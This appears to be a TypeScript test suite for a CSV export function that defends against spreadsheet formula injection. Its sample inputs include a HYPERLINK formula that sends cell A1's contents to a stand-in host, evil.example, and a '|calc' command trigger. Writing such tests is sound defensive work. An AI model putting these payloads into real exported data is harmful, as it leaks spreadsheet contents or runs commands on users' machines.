import * as fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvOf } from '#model/desk/csv';

/** The only cell of a sheet, as a spreadsheet reads it. */
function onlyCell(sheet: string): string {
  const { data, errors } = Papa.parse<string[]>(sheet, { delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  expect(data).toEqual([[expect.any(String)], ['']]);
  return data[0]?.[0] ?? '';
}

describe('a sheet for a spreadsheet', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1 (503) 555-0100',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '  =1+1',
    '"=1',
    "'=1",
    '＝1',
    '|calc',
    '\r\n=1',
  ])('%j is a text', (text) => {
    expect(onlyCell(csvOf([[text]]))).toBe(`'${text}`);
  });

  test('keeps numbers numbers, and quotes, commas and line ends in their cell', () => {
    expect(csvOf([['Ada, "the first"\nLovelace', -6.9, 12]])).toBe(
      '"Ada, ""the first""\nLovelace",-6.9,12\r\n',
    );
  });

  test('no text begins a formula, leaves its cell or steers a terminal', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = onlyCell(csvOf([[text]]));
        expect(cell).not.toMatch(/^\s*[=+\-@|]/);
        expect(cell).not.toMatch(/(?![\t\r\n])\p{Cc}/u);
      }),
    );
  });
});
